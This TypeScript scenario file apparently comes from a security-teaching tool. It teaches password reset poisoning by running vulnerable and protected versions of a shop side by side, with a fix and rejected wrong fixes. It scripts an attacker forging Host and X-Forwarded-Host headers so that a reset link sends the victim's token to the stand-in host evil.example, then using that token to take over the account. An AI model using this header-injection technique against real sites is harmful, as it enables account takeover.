import type { Actor, World } from './engine/cast.ts';
import { mailedToken } from './engine/mailedToken.ts';
import { scenario } from './engine/scenario.ts';
import type { SiteHandler } from './engine/sites.ts';

const evil = 'https://evil.example';
const email = 'alice@shop.example';
const hers = 'crows-know-it-8';
const alices = 'looking-glass-9';

/** A copy of the shop's page. It shows what its server was sent. */
const copyOfTheShop: SiteHandler = ({ path }) => ({ body: `Hats and rabbits. This site was sent: ${path}` });

const resetMails = (world: World) => world.mail(email).filter(({ subject }) => subject.startsWith('Reset'));
const siteOf = (link: string) => /^https:\/\/([^/]+)/.exec(link)?.[1] ?? 'none';
const newestLink = (world: World) => resetMails(world).at(-1)!.text;

/** What evil.example was sent when Alice opened its page. */
const caught = (alice: Actor) => {
  const page = alice.responses.find(({ by }) => by === evil);
  return mailedToken(page && { to: email, subject: '', text: page.text });
};

export default scenario({
  slug: 'password-reset-poisoning',
  chapter: 'login',
  title: 'Password reset poisoning',
  subtitle: 'A real mail with a false link',
  synonyms: [
    'host header injection',
    'Host header',
    'X-Forwarded-Host',
    'req.hostname',
    'req.get host',
    'reset link',
    'forgot password',
    'account takeover',
  ],
  question: 'The mail really comes from the shop. Why does its link lead to somebody else?',
  weakness: 'reset-link-names-the-requested-host',
  actors: { alice: 'victim', mallory: 'attacker' },
  sites: { [evil]: copyOfTheShop },
  references: [
    'ASVS V4.1.3',
    'ASVS V6.4.3',
    'ASVS V7.4.3',
    'WSTG-INPV-17',
    'WSTG-ATHN-09',
    'CWE-640',
    'CWE-348',
    'CWE-613',
    'CAPEC-50',
  ],
  subject: ['sess:', 'reset:'],
  steps: [
    {
      title: 'Alice asks for a link, and does not use it',
      purpose: 'The usual course',
      narration:
        'A person who forgot a password gets a link by mail. It holds a token: a random value that proves that its sender read the mail. Alice remembers her password after all, and keeps the mail.',
      act: ({ alice }) => alice.post('/auth/forgot', { email }),
      claims: ['a mail goes to alice@shop.example', 'Redis gets SET'],
      ask: {
        question: 'Which site does the link lead to?',
        answer: ({ world }) => siteOf(newestLink(world)),
        vulnerable: 'shop.example',
        protected: 'shop.example',
      },
    },
    {
      title: 'Mallory asks for a link for Alice, with a false host',
      purpose: 'Write the link',
      narration: {
        vulnerable:
          'Her request goes to the shop, but its Host and X-Forwarded-Host say evil.example. The shop’s reverse proxy sets X-Forwarded-For and X-Forwarded-Proto, and passes on every other header as it came. This app writes the link from them, so she writes it.',
        protected:
          'Her request goes to the shop, but its Host and X-Forwarded-Host say evil.example. The shop’s reverse proxy sets X-Forwarded-For and X-Forwarded-Proto, and passes on every other header as it came. This app does not ask them: the link begins with the shop’s own address, from its settings.',
        both: 'Her request goes to the shop, but its Host and X-Forwarded-Host say evil.example. The shop’s reverse proxy sets X-Forwarded-For and X-Forwarded-Proto, and passes on every other header as it came. An app that writes the link from them lets her write it.',
      },
      act: ({ mallory }) =>
        mallory.post(
          '/auth/forgot',
          { email },
          { headers: { Host: 'evil.example', 'X-Forwarded-Host': 'evil.example' } },
        ),
      claims: ['a mail goes to alice@shop.example', 'mallory is answered 202'],
      ask: {
        question: 'Which site does the link in Alice’s new mail lead to?',
        answer: ({ world }) => siteOf(newestLink(world)),
        vulnerable: 'evil.example',
        protected: 'shop.example',
      },
    },
    {
      title: 'Alice opens the link',
      purpose: 'One click is enough',
      narration: {
        vulnerable:
          'The mail is genuine: the shop’s sender, the shop’s words. The host that the link names gets the token with the click, because the token is in the query string.',
        protected:
          'The mail is genuine: the shop’s sender, the shop’s words. The host that the link names would get a token in the query string with the click. This shop puts it behind a #, which browsers send to no server.',
        both: 'The mail is genuine: the shop’s sender, the shop’s words. The host that the link names gets the token with the click. The protected shop puts it behind a #, which browsers send to no server.',
      },
      act: ({ alice, world }) => alice.visit(newestLink(world)),
      claims: {
        vulnerable: ['alice is answered by https://evil.example'],
        protected: ['alice is answered by app'],
      },
      ask: {
        question: 'Does evil.example have the token?',
        answer: ({ alice }) => (caught(alice) ? 'yes' : 'no'),
        vulnerable: 'yes',
        protected: 'no',
      },
    },
    {
      title: 'Mallory sets a password and logs in',
      purpose: 'Use the token first',
      narration: {
        vulnerable:
          'Mallory sends the token that her site was sent, and chooses a password. To the shop, the sender of the token is the reader of the mail.',
        protected:
          'To the shop, the sender of the token is the reader of the mail. Mallory’s site was sent nothing, so she has to invent a token, and the shop refuses it. Alice’s password is still hers.',
        both: 'Mallory sends the token that her site was sent, or else she has to invent one. To the shop, the sender of the token is the reader of the mail.',
      },
      act: async ({ mallory, alice }) => {
        await mallory.post('/auth/reset', { token: caught(alice) ?? '1.invented', password: hers });
        await mallory.post('/auth/login', { email, password: hers });
        await mallory.get('/me');
      },
      claims: {
        vulnerable: ['mallory gets a session cookie', 'the record of mallory is stored'],
        protected: ['mallory gets no session cookie'],
      },
      ask: {
        question: 'Who does the shop think she is?',
        answer: ({ mallory }) => mallory.last.json?.email ?? 'nobody',
        vulnerable: email,
        protected: 'nobody',
      },
    },
    {
      title: 'Alice asks again, and sets a password of her own',
      purpose: 'Take the account back',
      narration:
        'The mails have worried her. This link leads to the shop. Her new password is stored; whether the sessions from before end is a second question.',
      act: async ({ alice, world }) => {
        await alice.post('/auth/forgot', { email });
        await alice.post('/auth/reset', { token: mailedToken(resetMails(world).at(-1)), password: alices });
      },
      claims: {
        vulnerable: ['alice is answered 204', 'the record of mallory stays'],
        protected: ['alice is answered 204'],
      },
    },
    {
      title: 'Mallory opens the account page',
      purpose: 'See whether the reset put her out',
      narration: {
        vulnerable:
          'Mallory’s password is worthless now. But the shop asks for a password at a login only, and this reset ended no session. Hers goes on.',
        protected:
          'Mallory’s login failed, so she has no session. If she had one, it would have ended with the new password: this shop’s reset ends the user’s sessions.',
        both: 'Mallory’s password is worthless now. The shop asks for a password at a login only, and a session that a login started goes on until somebody ends it.',
      },
      act: ({ mallory }) => mallory.get('/me'),
      claims: {
        vulnerable: ['mallory sends a session cookie'],
        protected: ['mallory sends no session cookie'],
      },
      ask: {
        question: 'Who does the shop think she is?',
        answer: ({ mallory }) => mallory.last.json?.email ?? 'nobody',
        vulnerable: email,
        protected: 'nobody',
      },
    },
    {
      title: 'Mallory finds Alice’s first mail and uses its link',
      purpose: 'An old token',
      narration: {
        vulnerable:
          'Alice has forwarded it, or left her mailbox open. It was never used. Since then there were two newer links and a new password, and this shop keeps each token until it is used or too old.',
        protected:
          'Alice has forwarded it, or left her mailbox open. It was never used. Since then there were two newer links and a new password; this shop keeps one token for each user, and a new password makes it worthless.',
        both: 'Alice has forwarded it, or left her mailbox open. It was never used. Since then there were two newer links and a new password; the protected shop keeps one token for each user, and a new password makes it worthless.',
      },
      act: ({ mallory, world }) =>
        mallory.post('/auth/reset', { token: mailedToken(resetMails(world)[0]), password: hers }, { cookie: '' }),
      claims: ['mallory sends no session cookie'],
      ask: {
        question: 'What does the shop answer?',
        answer: ({ mallory }) => mallory.last.status,
        vulnerable: 204,
        protected: 400,
      },
    },
  ],
  lesson:
    'Write links in mails with an address from the settings, never from the request; the newest token is the only one, and a reset ends every session.',
  fix: `// settings: PUBLIC_ORIGIN=https://shop.example
export const resetLink = ({ publicOrigin }, token) => \`\${publicOrigin}/#reset=\${token}\`;

// one key for each user, so that a new token replaces the one before it
await redis.set(\`reset:\${user.id}\`, digestOf(token, user), 'PX', lifetime);

// after the new password
await sessionIndex.endWhere(user.id, () => true);`,
  notTheFix: [
    'req.hostname or the Host header in place of X-Forwarded-Host: the client writes both.',
    'A token behind the # alone: it is in no server’s log, but a page of evil.example has scripts, and they can read it.',
    'A warning “Was that not you?” in the mail: people click the link to find out.',
  ],
  repairs: {
    fix: {
      title: 'An address from the settings, one token, no old session',
      idea: 'The link starts with a setting. A new token replaces the one before it, and a reset ends all sessions.',
      because: 'Nothing that Mallory writes into a request becomes part of a mail, and no older link works.',
    },
    decoys: [
      {
        file: 'reset-link-names-the-host-header',
        title: 'Use Host instead of X-Forwarded-Host',
        idea: 'Visitors can add X-Forwarded-Host to a request. Every request has a Host, and it says which site was asked.',
        because: 'Browsers write the Host truthfully. Mallory’s program does not, and the reverse proxy passed it on.',
        fails: { step: 2, answer: 'evil.example' },
      },
      {
        file: 'reset-tokens-side-by-side',
        title: 'An address from the settings, and no old session',
        idea: 'The link always leads to the shop, each token works once, and a reset ends every session.',
        because: 'Mallory gets no token from a false host. But every mail of the last day holds one that still works.',
        fails: { step: 7, answer: 204 },
      },
    ],
  },
});
